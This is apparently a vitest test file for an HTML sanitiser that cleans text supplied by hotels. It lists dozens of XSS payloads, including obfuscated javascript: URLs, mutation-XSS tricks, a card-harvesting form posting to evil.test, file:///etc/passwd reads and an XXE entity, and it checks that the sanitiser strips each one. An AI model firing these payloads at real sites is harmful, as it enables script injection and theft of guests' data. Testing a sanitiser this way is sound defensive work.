import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { cleanHtml } from "./clean-html.ts";

/** The only allowed tags, as spelt; everything else between angle brackets is dangerous. */
const HARMLESS =
  /^<(?:\/?(?:h[234]|p|ul|ol|li|strong|em|a|table|thead|tbody|tr|th|td)|(?:br|hr) \/|a href="(?:https?:\/\/|mailto:|tel:|\/(?!\/)|#)[^"<>]*")>$/;

/** What a browser could read as a tag, judged by the text and independently of the cleaner. */
function dangers(html: string): string[] {
  const tags = html.match(/<[^>]*>?/g) ?? [];
  return tags.filter((tag) => !HARMLESS.test(tag));
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.test/x></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)</script\n>",
  "<script/x>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.test/pixel>",
  "<svg onload=alert(1)>",
  "<svg><script href=data:,alert(1) />",
  "<svg><animate onbegin=alert(1) attributeName=x>",
  "<svg><style><img src=x onerror=alert(1)></style>",
  "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>",
  '<math href="javascript:alert(1)">x</math>',
  '<p onclick="alert(1)">x</p>',
  "<p/onclick=alert(1)>x</p>",
  '<p\u000bonclick="alert(1)">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<p id="root" class="price__root" name="portico">x</p>',
  '<a id="portico-start" href="#">x</a>',
  '<p data-protected="" slot="x" is="x">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://hotel.example/x">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="\\\\evil.test">x</a>',
  '<a href="/\\evil.test">x</a>',
  '<a href="/\t/evil.test">x</a>',
  "<a href='https://hotel.example' onmouseover='alert(1)' target=_top ping=https://evil.test>x</a>",
  '<a href="https://hotel.example/"onclick="alert(1)">x</a>',
  '<a href="https://hotel.example/&quot;onclick=&quot;alert(1)">x</a>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.test"></object><embed src="https://evil.test">',
  '<form action="https://evil.test"><input name="card"><button>Pay</button></form>',
  "<isindex action=javascript:alert(1)>",
  "<base href=https://evil.test>",
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel="stylesheet" href="https://evil.test">',
  "<style>*{display:none}</style>",
  "<style>@import 'https://evil.test';</style>",
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<textarea><script>alert(1)</script></textarea>",
  "<title><script>alert(1)</script></title>",
  "<xmp><script>alert(1)</script></xmp>",
  "<plaintext><script>alert(1)</script>",
  "<!--><script>alert(1)</script>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
  "<video><source onerror=alert(1)></video>",
  "<audio src=https://evil.test autoplay>",
  "<details open ontoggle=alert(1)>x</details>",
  "<dialog open>Pay here</dialog>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<body onload=alert(1)>",
  "<html><head><script>alert(1)</script></head></html>",
  "<table background=https://evil.test><td background=javascript:alert(1)>x</table>",
  "<p <script>alert(1)</script>>x</p>",
  "<<p>script>alert(1)<</p>/script>",
  "<h2>never closed <img src=x onerror=alert(1)",
  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
] as const;

describe("an attack on guests by a hotel's text is taken out at import", () => {
  test.each(ATTACKS)("%s", (html) => expect(dangers(cleanHtml(html).clean)).toEqual([]));

  test("also when thousands of them are cut up and put together again", () => {
    const pieces = ATTACKS.flatMap((html) => html.match(/[\w-]+|\s+|./gs) ?? []);
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 40 }), (parts) => {
        expect(dangers(cleanHtml(parts.join("")).clean)).toEqual([]);
      }),
      { numRuns: 3000, seed: 20261121 },
    );
  });

  test("what was cleaned once stays as it is", () => {
    for (const html of ATTACKS) {
      const { clean } = cleanHtml(html);
      expect(cleanHtml(clean)).toEqual({ clean, removed: [] });
    }
  });
});

test.each([
  "<h2>Terms</h2><p>Paid <strong>on arrival</strong>, <em>in cash</em>.<br />Thank you.</p><hr />",
  "<ul><li>one</li></ul><ol><li>two</li></ol>",
  "<table><thead><tr><th>Days</th></tr></thead><tbody><tr><td>3</td></tr></tbody></table>",
  '<a href="https://hotel.example/a?b=1&amp;c=2">x</a><a href="mailto:a@b.cz">y</a><a href="tel:+420123">z</a>',
  '<a href="/pictures/plan.pdf">plan</a> <a href="#top">up</a>',
])("what hotels write stays: %s", (html) => expect(cleanHtml(html)).toEqual({ clean: html, removed: [] }));
